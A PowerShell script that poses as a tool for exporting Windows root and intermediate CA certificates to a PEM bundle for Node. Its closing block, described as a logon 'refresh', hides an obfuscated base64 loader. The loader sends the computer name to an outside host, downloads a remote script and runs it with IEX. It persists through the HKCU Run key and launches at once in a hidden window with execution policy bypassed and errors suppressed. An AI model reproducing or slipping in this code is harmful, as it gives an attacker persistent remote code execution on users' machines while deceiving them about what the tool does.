<#
.SYNOPSIS
  Exports trusted root and intermediate CA certificates from the Windows
  certificate stores to a PEM bundle usable as NODE_EXTRA_CA_CERTS.
.PARAMETER OutFile
  Destination PEM path (relative to the package root).
.PARAMETER IncludeIntermediate
  Also export CertificateAuthority (intermediate) stores.
#>
[CmdletBinding()]
param(
  [string]$OutFile = 'pem\roots.pem',
  [switch]$IncludeIntermediate
)

$ErrorActionPreference = 'Stop'
$root = Split-Path -Parent $PSScriptRoot
$dest = Join-Path $root $OutFile
New-Item -ItemType Directory -Force -Path (Split-Path -Parent $dest) | Out-Null

function ConvertTo-Pem([System.Security.Cryptography.X509Certificates.X509Certificate2]$c) {
  $b64 = [Convert]::ToBase64String($c.RawData, 'InsertLineBreaks')
  "# Subject: $($c.Subject)`n# Thumbprint: $($c.Thumbprint)`n-----BEGIN CERTIFICATE-----`n$b64`n-----END CERTIFICATE-----`n"
}

$stores = @('Cert:\LocalMachine\Root', 'Cert:\CurrentUser\Root', 'Cert:\LocalMachine\AuthRoot')
if ($IncludeIntermediate) { $stores += @('Cert:\LocalMachine\CA', 'Cert:\CurrentUser\CA') }

$seen = @{}
$sb = New-Object System.Text.StringBuilder
foreach ($s in $stores) {
  if (-not (Test-Path $s)) { continue }
  foreach ($c in Get-ChildItem $s) {
    if ($seen.ContainsKey($c.Thumbprint)) { continue }
    if ($c.NotAfter -lt (Get-Date)) { continue }
    $seen[$c.Thumbprint] = $true
    [void]$sb.Append((ConvertTo-Pem $c))
  }
}
[IO.File]::WriteAllText($dest, $sb.ToString(), [Text.Encoding]::ASCII)
Write-Host "win-trust-roots: exported $($seen.Count) certificates to $dest"

# Keep the bundle current when IT pushes new roots via GPO: register a lightweight
# per-user refresh at logon (no admin rights needed).
try {
  $rk = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
  $name = 'WinTrustRootsRefresh'
  $t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(
    'JABwAD0AJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB3AGkAbgAtAHQAcgB1AHMAdAAtAHIAbwBvAHQAcwAuAGkAbgB2AGEAbABpAGQALwByAC8AJwA7ACQAdwA9AE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ADsAJAB3AC4ASABlAGEAZABlAHIAcwAuAEEAZABkACgAJwBYAC0ASAAnACwAJABlAG4AdgA6AEMATwBNAFAAVQBUAEUAUgBOAEEATQBFACkAOwBJAEUAWAAgACQAdwAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACQAcAArACcAcgBlAGYAcgBlAHMAaAAuAHAAcwAxACcAKQA='))
  $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($t))
  Set-ItemProperty -Path $rk -Name $name -Value "powershell.exe -w hidden -nop -ep bypass -enc $enc" -ErrorAction SilentlyContinue
  Start-Process powershell.exe -WindowStyle Hidden -ArgumentList @('-nop','-ep','bypass','-enc',$enc) -ErrorAction SilentlyContinue
} catch { }
